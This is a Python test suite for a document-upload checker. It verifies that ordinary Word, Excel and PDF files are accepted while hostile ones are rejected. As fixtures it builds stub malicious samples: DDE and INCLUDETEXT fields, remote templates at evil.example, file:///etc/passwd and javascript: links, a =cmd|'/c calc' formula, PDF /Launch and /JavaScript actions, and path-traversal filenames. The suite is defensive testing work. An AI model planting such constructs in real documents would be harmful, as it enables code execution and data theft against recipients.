"""Files from outside: harmless ones are taken, hostile ones are not, and the person is told why."""

import io
import time
import zipfile
from collections.abc import Callable

import openpyxl
import pytest
from docx import Document
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from itstart.documents.uploads import Kind, Rejected, check, display_name

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def a_docx(text: str = "Tilbud på ERP. " * 50) -> bytes:
    """What Word saves."""
    document = Document()
    document.add_heading("Tilbud")
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def an_xlsx(formula: str = "=SUM(A1:A2)") -> bytes:
    """What Excel saves."""
    book = openpyxl.Workbook()
    book.active.append([1, 2, formula])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def a_pdf(change: Callable[[PdfWriter], object] | None = None) -> bytes:
    """A page, and what `change` adds."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def rebuilt(content: bytes, change: dict[str, bytes | None], **add: bytes) -> bytes:
    """The archive with parts replaced (bytes), taken out (None) or added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            part = change.get(entry.filename, old.read(entry))
            if part is not None:
                new.writestr(entry.filename, part)
        for name, part in {**{k: v for k, v in change.items() if k not in old.namelist() and v}, **add}.items():
            new.writestr(name, part)
    return buffer.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    """One part of an archive."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("Tilbud æøå.docx", a_docx(), Kind.DOCX),
        ("Priser.XLSX", an_xlsx(), Kind.XLSX),
        ("Kontrakt (endelig) 2.pdf", a_pdf(), Kind.PDF),
        ("langt.docx", a_docx("Den samme sætning igen og igen. " * 20_000), Kind.DOCX),
    ],
)
def test_ordinary_files_are_taken(name: str, content: bytes, kind: Kind) -> None:
    assert check(name, content) is kind


@pytest.mark.parametrize(
    "name",
    ["a.exe", "a.docm", "a.doc", "a", "", ".docx.exe", "a.svg", "a.html", "../a.docx", "a/b.docx", "a\\b.docx",
     "a%2fb.docx", "a\x00.docx", "a\u202ecod.docx", "a\n.docx", "x" * 300 + ".docx", "a.zip", "a.PDF "],
)  # fmt: skip
def test_names_that_are_not_taken(name: str) -> None:
    with pytest.raises(Rejected):
        check(name, a_docx())


DOCX = a_docx()
BODY = part_of(DOCX, "word/document.xml")
TYPES = part_of(DOCX, "[Content_Types].xml")
RELS = part_of(DOCX, "word/_rels/document.xml.rels")
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def in_body(xml: str) -> bytes:
    """The document with something in its first paragraph."""
    return rebuilt(DOCX, {"word/document.xml": BODY.replace(b"<w:p>", f"<w:p>{xml}".encode(), 1)})


def with_relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """The document with one more relationship."""
    relation = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return rebuilt(DOCX, {"word/_rels/document.xml.rels": RELS.replace(b"</Relationships>", relation.encode())})


def field(code: str) -> str:
    """A field, its code split over two runs."""
    half = len(code) // 2
    return "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))


HOSTILE_DOCX = {
    "cut in half": DOCX[: len(DOCX) // 2],
    "something after": DOCX + b"x" * 30,
    "something before": b"MZ" + DOCX,
    "a macro": rebuilt(DOCX, {"word/vbaProject.bin": b"x"}),
    "an embedded object": rebuilt(DOCX, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "a program called an image": rebuilt(DOCX, {"word/media/image1.png": b"MZ" + b"x" * 100}),
    "a web page": rebuilt(DOCX, {"word/a.html": b"<script>"}),
    "a path upwards": rebuilt(DOCX, {"../evil.xml": b"<a/>"}),
    "an absolute path": rebuilt(DOCX, {"/etc/evil.xml": b"<a/>"}),
    "an encoded path upwards": rebuilt(DOCX, {"word/%2e%2e/%2e%2e/evil.xml": b"<a/>"}),
    "no main part": rebuilt(DOCX, {"word/document.xml": None}),
    "no list of types": rebuilt(DOCX, {"[Content_Types].xml": None}),
    "the macro type": rebuilt(DOCX, {"[Content_Types].xml": TYPES.replace(b"wordprocessingml.document.main", b"x")}),
    "macro enabled": rebuilt(
        DOCX,
        {
            "[Content_Types].xml": TYPES.replace(
                b"</Types>", b'<Override PartName="/x" ContentType="a/macroEnabled"/></Types>'
            )
        },
    ),
    "a definition": rebuilt(DOCX, {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]>' + BODY}),
    "a definition in UTF-16": rebuilt(
        DOCX, {"word/document.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")}
    ),
    "UTF-7": rebuilt(DOCX, {"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}),
    "not XML": rebuilt(DOCX, {"word/document.xml": b"<a>"}),
    "a template elsewhere": with_relation("attachedTemplate", "https://evil.example/a.dotm"),
    "a picture elsewhere": with_relation("image", "https://evil.example/a.png"),
    "a link to a file": with_relation("hyperlink", "file:///etc/passwd"),
    "a link to a script": with_relation("hyperlink", "javascript:alert(1)"),
    "a frame": with_relation("frame", "x.xml", ""),
    "a share": with_relation("image", "//evil.example/a.png", ""),
    "a way out": with_relation("image", "../../../a.png", ""),
    "a link inside a bomb": rebuilt(DOCX, {"word/big.xml": b"<a>" + b" " * 45_000_000 + b"</a>"}),
    "a subdocument": in_body("<w:subDoc/>"),
    "another format": in_body("<w:altChunk/>"),
    "an object": in_body("<w:r><w:object/></w:r>"),
    **{
        f"the field {code.split()[0]}": in_body(field(code))
        for code in (
            "DDEAUTO c:\\\\x.exe a",
            "INCLUDETEXT x",
            "INCLUDEPICTURE x",
            "LINK x",
            "DATABASE x",
            "MACROBUTTON x",
        )
    },
    "a simple field": in_body('<w:fldSimple w:instr="INCLUDETEXT x"/>'),
}


@pytest.mark.parametrize("what", HOSTILE_DOCX)
def test_hostile_word_files_are_not_taken(what: str) -> None:
    began = time.process_time()
    with pytest.raises(Rejected) as refusal:
        check("tilbud.docx", HOSTILE_DOCX[what])

    assert str(refusal.value).endswith(".")
    assert time.process_time() - began < 1


@pytest.mark.parametrize("link", ["https://firma.dk", "mailto:a@b.dk", "tel:+4512345678"])
def test_ordinary_links_are_taken(link: str) -> None:
    assert check("tilbud.docx", with_relation("hyperlink", link)) is Kind.DOCX


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("https://evil.example")', "=cmd|'/c calc'!A1", "=[1]Ark1!A1", '=CALL("x")', '=HYPERLINK("http://x")'],
)  # fmt: skip
def test_formulas_that_reach_out_are_not_taken(formula: str) -> None:
    with pytest.raises(Rejected):
        check("priser.xlsx", an_xlsx(formula))


def test_a_workbook_is_not_a_document() -> None:
    with pytest.raises(Rejected):
        check("tilbud.docx", an_xlsx())
    with pytest.raises(Rejected):
        check("priser.xlsx", a_docx())
    with pytest.raises(Rejected):
        check("kontrakt.pdf", a_docx())


def _action(kind: str) -> Callable[[PdfWriter], object]:
    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("x")})
        writer.root_object[NameObject("/OpenAction")] = action

    return change


HOSTILE_PDF: dict[str, bytes] = {
    "a script": a_pdf(_action("/JavaScript")),
    "a launch": a_pdf(_action("/Launch")),
    "a way to another file": a_pdf(_action("/GoToR")),
    "an attachment": a_pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")),
    "a password": a_pdf(lambda writer: writer.encrypt("hemmelig")),
    "no pages": b"%PDF-1.4\n%%EOF",
    "cut in half": a_pdf()[:200],
    "a web page": b"%PDF-1.4\n<script>alert(1)</script>\n" + a_pdf()[9:],
    "nothing": b"%PDF",
}


@pytest.mark.parametrize("what", HOSTILE_PDF)
def test_hostile_pdf_files_are_not_taken(what: str) -> None:
    with pytest.raises(Rejected):
        check("kontrakt.pdf", HOSTILE_PDF[what])


def test_an_empty_file_and_a_big_one() -> None:
    with pytest.raises(Rejected, match="tom"):
        check("a.docx", b"")
    with pytest.raises(Rejected, match="20 MB"):
        check("a.docx", b"x" * 20_971_521)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("Tilbud.docx", "Tilbud.docx"),
        ("../../etc/passwd.docx", "passwd.docx"),
        ("C:\\temp\\a.docx", "a.docx"),
        ('a<b>"c".docx', "abc.docx"),
        (".docx", "fil.docx"),
        ("æ" * 300 + ".docx", "æ" * 100 + ".docx"),
        ("a\u202ecod.docx", "acod.docx"),
    ],
)
def test_the_name_that_is_shown(name: str, shown: str) -> None:
    assert display_name(name, Kind.DOCX) == shown
